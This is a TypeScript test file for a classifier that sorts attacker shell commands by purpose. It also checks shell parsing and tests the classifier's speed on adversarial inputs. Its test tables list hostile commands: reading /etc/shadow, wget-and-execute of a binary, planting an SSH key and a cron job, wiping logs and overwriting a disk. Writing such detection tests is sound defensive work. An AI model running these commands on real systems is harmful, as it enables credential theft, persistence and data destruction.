import t from 'tap'
import { makeClassifier, shippedRules } from '../../../controller/attackers/index.ts'
import { simpleCommands } from '../../../controller/attackers/shell-words.ts'
import { seededRandom } from '../../../shared/random.ts'

const classify = makeClassifier(shippedRules())
const kinds = (line: string) =>
  classify(line)
    .map(({ kind }) => kind.replace('command.', ''))
    .sort()
const words = (line: string) => simpleCommands(line).map((one) => one.words)

t.test('a line of shell is taken apart as a shell would', async (t) => {
  t.same(words(`echo "a b" 'c;d' e\\ f; ls -la|wc -l && id`), [
    ['echo', 'a b', 'c;d', 'e f'],
    ['ls', '-la'],
    ['wc', '-l'],
    ['id'],
  ])
  t.same(words('sudo -u root nohup env A=1 busybox wget x &'), [['wget', 'x']])
  t.same(words('echo $(cat /etc/shadow) `id`').slice(1), [['cat', '/etc/shadow'], ['id']])
  t.same(words(`sh -c 'rm -rf /tmp/*; bash -c "id"'`).slice(1), [['rm', '-rf', '/tmp/*'], ['bash', '-c', 'id'], ['id']])
  t.same(simpleCommands('echo x >> ~/.ssh/authorized_keys 2>&1'), [
    { words: ['echo', 'x'], writes: ['~/.ssh/authorized_keys'] },
  ])
  t.same(words(`echo "it's # not; a comment" # this; is`), [['echo', "it's # not; a comment"]])
})

t.test('commands are told apart by what they do', async (t) => {
  const table: [string, string[]][] = [
    ['uname -a', ['discovery']],
    ['cat /proc/cpuinfo | grep name | wc -l', ['discovery']],
    ['cat /etc/shadow', ['credentials']],
    [`tftp -g -r mips 198.51.100.7`, ['download']],
    ['cd /tmp; wget http://198.51.100.7/x; chmod 777 x; ./x', ['download', 'execution']],
    ['echo ssh-rsa AAAA >> /root/.ssh/authorized_keys', ['persistence']],
    ['(crontab -l; echo "* * * * * /tmp/x") | crontab -', ['discovery', 'persistence']],
    ['rm -rf /var/log', ['destructive', 'evasion']],
    ['dd if=/dev/zero of=/dev/sda', ['destructive']],
    ['ssh root@198.18.1.7', ['lateral']],
    ['nmap -sS 198.18.1.0/24', ['scan']],
    ['history -c', ['discovery', 'evasion']],
    ['/bin/busybox MIRAI', ['other']],
    ['echo "wget http://x/"', ['other']],
    ['crontab -l', ['discovery']],
    ['', ['other']],
  ]
  for (const [line, expected] of table) t.same(kinds(line), expected, line)
})

t.test('no input makes the classification slow, and none makes it throw', async (t) => {
  const random = seededRandom('shell')
  const bits = [
    '$(',
    ')',
    '`',
    "'",
    '"',
    '\\',
    ';',
    '|',
    '>',
    '(',
    'sudo ',
    'sh -c ',
    'eval ',
    'a',
    '/',
    '.',
    '-',
    ' ',
    '=',
    'aaaaaaaaaaaaaaaa',
  ]
  const evil = bits.map((bit) => bit.repeat(Math.ceil(4096 / bit.length)))
  for (let round = 0; round < 200; round++)
    evil.push(Array.from({ length: 1000 }, () => bits[Math.floor(random() * bits.length)]).join(''))
  for (const { words, writes, unless, program } of shippedRules().rules)
    for (const pattern of [words, writes, unless, program])
      if (pattern) t.notMatch(pattern, /[+*}]\)*[+*{]/, `no repetition of a repetition in ${pattern}`)
  let slowest = 0
  for (const line of evil) {
    const began = performance.now()
    classify(line)
    slowest = Math.max(slowest, performance.now() - began)
  }
  t.ok(slowest < 200, `the slowest line took ${slowest.toFixed(1)} ms`)
})
